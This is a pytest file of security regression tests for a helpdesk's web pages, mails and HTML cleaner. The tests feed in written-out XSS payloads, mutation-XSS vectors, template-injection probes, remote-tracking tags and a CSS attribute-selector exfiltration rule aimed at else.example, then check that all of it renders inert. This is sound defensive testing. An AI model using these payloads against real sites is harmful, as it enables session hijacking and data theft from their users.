"""What strangers write is read on pages and in mails, and never does anything there."""

from __future__ import annotations

from copy import deepcopy

import pytest

from chalicelib.desk.service import apply
from chalicelib.mail.sanitize import clean_html
from tests.attacks.inert import PAYLOAD, SEEN, flaws, text_of
from tests.attacks.scene import (
    Opened,
    answer,
    browser_of,
    customer,
    link_in,
    mail_of,
    numbers_of,
    opened,
    part_of,
    renamed,
    stranger,
    whole,
    write,
)
from tests.web.browser import Browser
from tests.web.calls import api
from tests.world import DESK, World


def pages_of(world: World, case: Opened, link: str) -> dict[str, str]:
    """Every page on which something of a ticket is shown."""
    anna = browser_of(world, "anna")
    agent = {
        path: anna.get(path).body
        for path in (
            f"/agent/tickets/{case.number}",
            f"/agent/tickets/{case.number}/articles/1/whole",
            "/agent/inbox?view=support-open",
        )
    }
    return {**agent, "portal": Browser(world).get(link).body}


def assert_inert(shown: dict[str, str]) -> None:
    assert {place: found for place, html in shown.items() if (found := flaws(html))} == {}


def test_markup_in_a_subject_is_text_everywhere(world: World) -> None:
    """CVE-2018-1000154: scripts in the subject of a mail ran when its ticket was opened."""
    case = opened(world, subject=PAYLOAD)
    sent = answer(world, case)
    shown = pages_of(world, case, link_in(sent))
    assert_inert({**shown, "mail": part_of(sent, "text/html")})
    assert SEEN in text_of(shown[f"/agent/tickets/{case.number}"])
    assert SEEN in text_of(shown["/agent/inbox?view=support-open"])
    assert SEEN in text_of(shown["portal"])


def test_markup_in_a_senders_name_is_text_everywhere(world: World) -> None:
    """Class: stored XSS by the display name of a sender."""
    kim = customer()
    world.mail(renamed(mail_of(kim), kim, PAYLOAD))
    case = Opened(numbers_of(world, kim)[0], kim)
    sent = answer(world, case)
    shown = pages_of(world, case, link_in(sent))
    assert_inert({**shown, "mail": part_of(sent, "text/html")})
    assert SEEN in text_of(shown[f"/agent/tickets/{case.number}"])


def test_markup_in_a_plain_text_is_text_everywhere(world: World) -> None:
    """CVE-2026-54433: a plain text mail ran scripts for whoever read it."""
    case = opened(world, f"Look: {PAYLOAD} javascript:alert(1) <javascript:alert(1)>")
    sent = answer(world, case)
    shown = pages_of(world, case, link_in(sent))
    assert_inert({**shown, "mail": part_of(sent, "text/html")})
    assert SEEN in text_of(shown["portal"])


def test_markup_in_a_mail_reaches_nobody_by_our_own_mail(world: World) -> None:
    """CVE-2026-32754: the body of a mail went unescaped into the desk's own notifications."""
    case = opened(world, f"Look: {PAYLOAD}", subject=PAYLOAD)
    sent = part_of(answer(world, case, f"You wrote {PAYLOAD}"), "text/html")
    assert flaws(sent) == []
    assert text_of(sent).count(SEEN) >= 2
    world.pass_time(days=7)
    world.sweep()
    world.settle()
    notices = [*world.mails_to("anna@agents.example"), *world.mails_to("lena@agents.example")]
    assert notices
    assert [flaws(part_of(notice, "text/html")) for notice in notices] == [[] for _ in notices]


def test_markup_of_an_html_mail_does_nothing_on_a_page(world: World) -> None:
    """CVE-2018-17883: a mail to the desk ran scripts, or carried links that did, for its agents."""
    kim = customer()
    mail = mail_of(kim, "see the HTML")
    mail.set_content(
        f"<p>Hello{PAYLOAD}</p><script>alert(1)</script><img src=x onerror=alert(1)>"
        '<a href="javascript:alert(1)">click</a><form action="//else.example"><button>go</form>',
        subtype="html",
    )
    world.mail(mail)
    case = Opened(numbers_of(world, kim)[0], kim)
    sent = answer(world, case)
    shown = pages_of(world, case, link_in(sent))
    assert_inert({**shown, "mail": part_of(sent, "text/html")})


def test_a_formatted_mail_is_shown_in_a_frame_that_runs_nothing(world: World) -> None:
    """CVE-2026-54433: a mail ran its scripts in the reader's session as soon as it was opened."""
    kim = customer()
    mail = mail_of(kim, "see the HTML")
    mail.set_content(
        f"<p>Hello{PAYLOAD}</p><script>alert(1)</script><img src=x onerror=alert(1)>"
        "<img src='https://else.example/seen.gif'><style>@import '//else.example/a'</style>",
        subtype="html",
    )
    world.mail(mail)
    case = Opened(numbers_of(world, kim)[0], kim)
    anna = browser_of(world, "anna")
    page = anna.get(f"/agent/tickets/{case.number}")
    (frame,) = page.soup.find_all("iframe")
    inner = anna.get(str(frame["src"]))
    assert inner.status == 200
    assert flaws(inner.body) == []
    policy = inner.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src" not in policy
    assert "unsafe-eval" not in policy
    assert "sandbox" in policy
    assert "allow-scripts" not in policy
    assert ' src="http' not in inner.body
    assert "@import" not in inner.body
    assert browser_of(world, "hugo").get(str(frame["src"])).status == 404


def test_markup_in_suspended_mail_is_text(world: World) -> None:
    """Class: the list of what was held back shows it without care."""
    eve = stranger()
    mail = renamed(mail_of(eve, PAYLOAD, subject=PAYLOAD), eve, PAYLOAD)
    world.mail(mail, verdicts={"spam": "FAIL"})
    page = browser_of(world, "lena").get("/agent/suspended")
    assert SEEN in page.text
    assert flaws(page.body) == []


def test_markup_in_a_file_name_is_text(world: World) -> None:
    """Class: stored XSS by the name of an attachment."""
    kim = customer()
    mail = mail_of(kim, "See the file.")
    name = "<x-attack onclick=alert(1)>'\".png"
    mail.add_attachment(b"x", maintype="image", subtype="png", filename=name)
    world.mail(mail)
    case = Opened(numbers_of(world, kim)[0], kim)
    sent = answer(world, case)
    shown = pages_of(world, case, link_in(sent))
    assert_inert(shown)
    assert SEEN in text_of(shown["portal"])


def test_what_the_desk_is_called_is_text_on_pages_and_in_mails(world: World) -> None:
    """CVE-2026-62854, CVE-2026-41904: markup in signatures and in automatic answers."""
    body = deepcopy(DESK)
    body["name"] = PAYLOAD
    body["groups"]["support"] |= {"name": PAYLOAD, "sender": PAYLOAD, "signature": PAYLOAD}
    body["agents"]["anna"]["name"] = PAYLOAD
    apply(world.ports, body)
    world.pass_time(minutes=10)
    case = opened(world)
    (ack,) = world.mails_to(case.customer.address)
    anna = browser_of(world, "anna")
    page = anna.get(f"/agent/tickets/{case.number}")
    anna.submit(page, "/articles", text="Hello", kind="reply")
    world.settle()
    sent = world.mails_to(case.customer.address)[-1]
    shown = pages_of(world, case, link_in(ack))
    mails = {str(place): part_of(mail, "text/html") for place, mail in enumerate((ack, sent))}
    assert_inert({**shown, **mails, "sign-in": Browser(world).get("/agent/sign-in").body})
    assert SEEN in text_of(mails["1"])


def test_templates_are_not_made_of_what_people_write(world: World) -> None:
    """Class: server-side template injection, by what is written into a template and rendered."""
    written = (
        "{{7*7}} {% for x in () %} {{ self.__init__ }} ${7*7} #{7*7} <%= 7*7 %> %(number)s {0}"
    )
    kim = customer()
    world.mail(renamed(mail_of(kim, written, subject=written), kim, "{{7*7}}"))
    case = Opened(numbers_of(world, kim)[0], kim)
    sent = answer(world, case, f"Reply: {written}")
    for shown in (text_of(part_of(sent, "text/html")), part_of(sent, "text/plain")):
        assert shown.count("{{7*7}}") >= 2
        assert "49" not in shown.replace(str(case.number), "")
    page = browser_of(world, "anna").get(f"/agent/tickets/{case.number}")
    assert written in page.text


def test_an_address_that_was_made_up_is_repeated_as_text(world: World) -> None:
    """Class: reflected XSS by error pages, notices and forms."""
    opened(world)
    for path in (
        "/agent/tickets/%3Cx-attack%20onclick=alert(1)%3E",
        "/agent/inbox?view=%22%3E%3Cx-attack%20onclick=alert(1)%3E",
        "/agent/inbox?notice=%3Cx-attack%3E&cursor=%3Cx-attack%3E",
        "/agent/tickets/1001?notice=%22%3E%3Cx-attack%3E",
        "/agent/sign-in?back_to=%22%3E%3Cx-attack%20onclick=alert(1)%3E",
        "/t/%3Cx-attack%3E.%22%3E",
    ):
        for browser in (browser_of(world, "anna"), Browser(world)):
            page = browser.get(path)
            page = browser.follow(page) if page.location else page
            assert flaws(page.body) == [], path


def test_an_error_of_the_api_is_no_page(world: World) -> None:
    """Class: an error that repeats the request, with a type that a browser renders."""
    found = api(world, "GET", "/api/v1/tickets/%3Cscript%3Ealert(1)%3C%2Fscript%3E")
    assert found.status == 404
    assert found.headers["content-type"].startswith("application/json")
    found = api(world, "PATCH", "/api/v1/tickets/1", {"<script>": "<script>"})
    assert found.status == 400
    assert found.headers["content-type"].startswith("application/json")


def test_a_typed_text_comes_back_as_text(world: World) -> None:
    """CVE-2026-48849: what was typed, put back into a form, ran."""
    case = opened(world)
    anna = browser_of(world, "anna")
    page = anna.post(f"/agent/tickets/{case.number}/articles", {"text": PAYLOAD})
    assert page.status == 403
    assert flaws(page.body) == []
    assert SEEN in page.soup.select_one("textarea").get_text()  # type: ignore[union-attr]
    (ack,) = world.mails_to(case.customer.address)
    refused = Browser(world).post(link_in(ack), {"text": PAYLOAD})
    assert flaws(refused.body) == []
    assert SEEN in refused.body.replace("&lt;", "<")


@pytest.mark.parametrize(
    "source",
    [
        "<svg><p><style><a id='</style><img src=1 onerror=alert(1)>'></svg>",
        "<math><mtext><mglyph><style><!--</style><p title='--><img src=1 onerror=alert(1)>'>",
        "<svg></p><style><a title='</style><img src onerror=alert(1)>'>",
        "<math><annotation-xml encoding='text/html'><p><script>alert(1)</script></math>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<textarea><title></textarea><img src=x onerror=alert(1)></title>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a href='java\tscript:alert(1)'>x</a><a href='\x01javascript:alert(1)'>x</a>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='><embed src='data:text/html,x'>",
        "<svg><animate attributeName=href values=javascript:alert(1)><a><text>x</text></a></svg>",
        "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
        "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
        "<p style='background:url(javascript:alert(1));width:expression(alert(1))'>x</p>",
    ],
)
def test_no_reading_of_html_finds_a_script_in_what_was_cleaned(source: str) -> None:
    """CVE-2021-38193: a cleaner and a browser read SVG and MathML differently."""
    cleaned = clean_html(source)
    assert flaws(cleaned) == []
    assert "onerror=" not in cleaned.replace("&lt;", "<").partition("title=")[0]
    # What is clean stays clean when it is read and written once more.
    assert flaws(clean_html(cleaned)) == []


@pytest.mark.parametrize(
    "source",
    [
        "<svg><filter><feImage href='https://else.example/a'></filter></svg>",
        "<img srcset='https://else.example/a 2x' src='//else.example/a'>",
        "<table background='https://else.example/a'><td background=//else.example/a>x</table>",
        "<p style='background-image:url(https://else.example/a)'>x</p>",
        "<p style='list-style:url(//else.example/a);content:url(//else.example/a)'>x</p>",
        "<style>@import 'https://else.example/a';</style>",
        "<link rel=stylesheet href=https://else.example/a><base href=https://else.example>",
        "<video poster=https://else.example/a><source src=https://else.example/a></video>",
        "<input type=image src=https://else.example/a><iframe src=https://else.example>",
        "<body background=https://else.example/a><meta http-equiv=refresh content='0;//e.example'>",
    ],
)
def test_a_mail_that_is_read_fetches_nothing(source: str) -> None:
    """CVE-2026-25916: a remote image in SVG told the sender that the mail was opened."""
    cleaned = clean_html(f"<div>{source}</div>")
    assert "else.example" not in cleaned.replace("data-remote-src=", "").partition("<img ")[0]
    assert ' src="http' not in cleaned
    assert ' src="//' not in cleaned
    assert "url(" not in cleaned


def test_an_acknowledgement_carries_no_words_of_the_sender(world: World) -> None:
    """Class: relay spam of 2025, an automatic answer with what a spammer wrote, to a victim."""
    kim = customer()
    mail = mail_of(kim, "Buy at https://else.example now", subject="WIN https://else.example")
    world.mail(renamed(mail, kim, "Free gift at else.example"))
    (ack,) = world.mails_to(kim.address)
    assert "else.example" not in whole(ack)
    assert "gift" not in whole(ack)
    assert "else.example" not in "".join(str(value) for name, value in ack.items() if name != "To")


def test_styles_of_a_mail_cover_nothing(world: World) -> None:
    """CVE-2026-40497: a style sheet of a stranger read what else stands on the page, or hid it."""
    source = (
        "<style>input[value^=a]{background:url(//else.example/a)}</style>"
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>Sign in</div>"
        "<p class='button' id='main' style='display:none;opacity:0'>x</p>"
    )
    cleaned = clean_html(source)
    for word in ("<style", "position", "z-index", "class=", "id=", "opacity", "else.example"):
        assert word not in cleaned
    case = opened(world)
    write(world, case.number, source)
    page = browser_of(world, "anna").get(f"/agent/tickets/{case.number}")
    assert page.soup.find("style") is None
    assert "unsafe-inline" not in page.headers["content-security-policy"]
